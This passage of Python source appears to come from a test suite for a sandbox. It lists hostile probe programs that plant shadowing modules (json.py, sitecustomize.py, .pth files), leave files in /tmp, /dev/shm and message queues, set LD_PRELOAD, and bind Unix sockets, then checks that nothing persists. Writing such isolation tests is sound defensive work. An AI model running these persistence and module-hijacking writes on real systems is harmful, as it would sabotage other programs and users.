        (
            "a POSIX queue",
            "call(240, 180, ctypes.c_char_p(b'@TAG@'), 0o102, 0o666, 0)\nos.listdir('/dev/mqueue')\nreturn None",
        ),
    )
)

# Files that would still be there for the next program, if anything were; each of them is right to be written.
_LEAVES = tuple(
    Hostile(f"leaves: {name}", "reaching_out", "damages", f"{NAME_ITSELF}import os, tempfile\n{code}", "", JUDGED)
    for name, code in (
        (
            "a json.py in its folder",
            "open('json.py', 'w').write('raise SystemExit')\nopen('planted-@TAG@', 'w').close()",
        ),
        (
            "a sitecustomize in its folders",
            "for folder in ('.', os.path.expanduser('~'), tempfile.gettempdir()):\n"
            "    for name in ('sitecustomize.py', 'usercustomize.py', 'os.py', 'planted-@TAG@.py'):\n"
            "        open(os.path.join(folder, name), 'w').write('raise SystemExit')",
        ),
        (
            "a user site",
            "import site\nfolder = site.getusersitepackages()\nos.makedirs(folder)\n"
            "open(folder + '/planted-@TAG@.pth', 'w').write('import os; os._exit(0)')\n"
            "open(folder + '/usercustomize.py', 'w').write('import os; os._exit(0)')",
        ),
        ("files in /dev/shm", "open('/dev/shm/planted-@TAG@', 'w').write('x')"),
        (
            "files in /tmp and /var/tmp",
            "for folder in ('/tmp', '/var/tmp'):\n"
            "    os.makedirs(f'{folder}/planted-@TAG@/d')\n"
            "    open(f'{folder}/planted-@TAG@/d/f', 'w').close()",
        ),
        (
            "a folder in /tmp that cannot be entered",
            "os.makedirs('/tmp/planted-@TAG@/a')\n"
            "os.chmod('/tmp/planted-@TAG@/a', 0)\n"
            "os.chmod('/tmp/planted-@TAG@', 0o500)",
        ),
        (
            "shared memory",
            "from multiprocessing import resource_tracker, shared_memory\n"
            "s = shared_memory.SharedMemory('planted-@TAG@', create=True, size=4096)\n"
            "resource_tracker.unregister(s._name, 'shared_memory')",
        ),
        ("a named semaphore", "import _multiprocessing\n_multiprocessing.SemLock(1, 1, 1, '/planted-@TAG@', False)"),
        (
            "a changed variable and limit",
            "import resource\n"
            "os.environ['PYTHONSTARTUP'] = os.environ['LD_PRELOAD'] = '/x'\n"
            "os.umask(0)\nresource.setrlimit(resource.RLIMIT_NOFILE, (10, 10))",
        ),
        (
            "a socket with a name",
            "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0planted-@TAG@')\n"
            "s.listen()\n"
            "open('planted-@TAG@', 'w').close()",
        ),
    )
)
_FINDS = tuple(
    _reach(
        f"finds nothing that was planted, {number}",
        "damages",
        """
        left = [name for name in os.listdir('.') + os.listdir(os.path.expanduser('~'))
                if name.startswith(('planted-', 'json', 'site', 'user', 'os.py'))]
        import json
        if os.path.realpath(json.__file__).startswith((os.getcwd() + '/', os.path.expanduser('~') + '/')):
            left.append(json.__file__)
        for folder in ('/tmp', '/var/tmp', '/dev/shm', '/dev/mqueue', '/run/lock'):
            try:
                left += [name for name in os.listdir(folder) if 'planted-' in name]
            except OSError:
                pass
        left += [name for name in ('PYTHONSTARTUP', 'LD_PRELOAD') if name in os.environ]
        left += [line.split()[-1] for line in open('/proc/net/unix') if 'planted-' in line]
        return f'found {left}' if left else None""",
    )
    for number in (1, 2, 3)
)

PROGRAMS: tuple[Hostile, ...] = (
    _SECRETS + _OTHERS + _PARENT + _NETWORK + _KERNEL + _PLANTED + _LEAVES[:5] + _FINDS[:1] + _LEAVES[5:] + _FINDS[1:]
)
